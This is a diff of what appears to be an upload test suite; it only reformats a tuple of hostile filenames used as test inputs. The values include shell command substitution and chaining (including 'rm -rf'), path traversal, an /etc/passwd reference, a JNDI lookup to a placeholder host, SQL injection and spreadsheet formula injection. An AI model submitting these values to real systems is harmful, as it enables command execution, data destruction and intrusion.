@@ -18,18 +18,14 @@ RIGHT = statuses(201, 415, 422)
 SENT_BY_FORM = statuses(201, 303, 400, 415, 422)
 MORE = (
     "a.pdf\0.exe", "a%00.txt", "CON", "aux.txt", "nul.txt.", "COM1.txt", "LPT\u00b9.txt", "...txt", "~$a.txt",
-    "a\u202e.txt",
-    "\ud800.txt", "a\ud83d.txt", "\U0010ffff.txt", "\ue000.txt", "\u0378.txt", "a" * 4000 + ".txt",
-    "\u0301" * 300 + ".txt",
-    "\U0001f468\u200d\U0001f469" * 60 + ".txt", "a." + "b" * 300, ".txt" * 80, "a.txt/", "a.txt\\",
-    "//server/share/a.txt",
-    "file:///etc/passwd.txt", "http://a.example/b.txt", "a.txt:stream", "a.txt::$DATA", "-rf *.txt", "$(id).txt",
-    "`id`.txt",
-    "a;rm -rf.txt", "a|b.txt", "%2e%2e%2fa.txt", "..%c0%afa.txt", "${jndi:ldap://a.example/x}.txt", "{{7*7}}.txt",
-    "\x1b[31mred.txt", "a\x7fb.txt", "a\x85b.txt", "\xad.txt", "\u115f.txt", "\u3164.txt", "\u200b\u200c\u200d.txt",
-    "\ufeff.txt",
-    "=1+1.txt", "@SUM(A1).txt", "+1.txt", "-1.txt", "\ta.txt", "a\u2028b.txt", "a\u2029b.txt", "\u2066a\u2069.txt",
-    "'; DROP TABLE entity_files;--.txt", "%s%n%x.txt", "a.TXT ", "a.txt\u3000", "\uff0e\uff0e\uff0fa.txt",
+    "a\u202e.txt", "\ud800.txt", "a\ud83d.txt", "\U0010ffff.txt", "\ue000.txt", "\u0378.txt", "a" * 4000 + ".txt",
+    "\u0301" * 300 + ".txt", "\U0001f468\u200d\U0001f469" * 60 + ".txt", "a." + "b" * 300, ".txt" * 80, "a.txt/",
+    "a.txt\\", "//server/share/a.txt", "file:///etc/passwd.txt", "http://a.example/b.txt", "a.txt:stream",
+    "a.txt::$DATA", "-rf *.txt", "$(id).txt", "`id`.txt", "a;rm -rf.txt", "a|b.txt", "%2e%2e%2fa.txt", "..%c0%afa.txt",
+    "${jndi:ldap://a.example/x}.txt", "{{7*7}}.txt", "\x1b[31mred.txt", "a\x7fb.txt", "a\x85b.txt", "\xad.txt",
+    "\u115f.txt", "\u3164.txt", "\u200b\u200c\u200d.txt", "\ufeff.txt", "=1+1.txt", "@SUM(A1).txt", "+1.txt", "-1.txt",
+    "\ta.txt", "a\u2028b.txt", "a\u2029b.txt", "\u2066a\u2069.txt", "'; DROP TABLE entity_files;--.txt", "%s%n%x.txt",
+    "a.TXT ", "a.txt\u3000", "\uff0e\uff0e\uff0fa.txt",
 )  # fmt: skip
 LETTERS = (
     "".join(map(chr, range(0x20, 0x7F)))
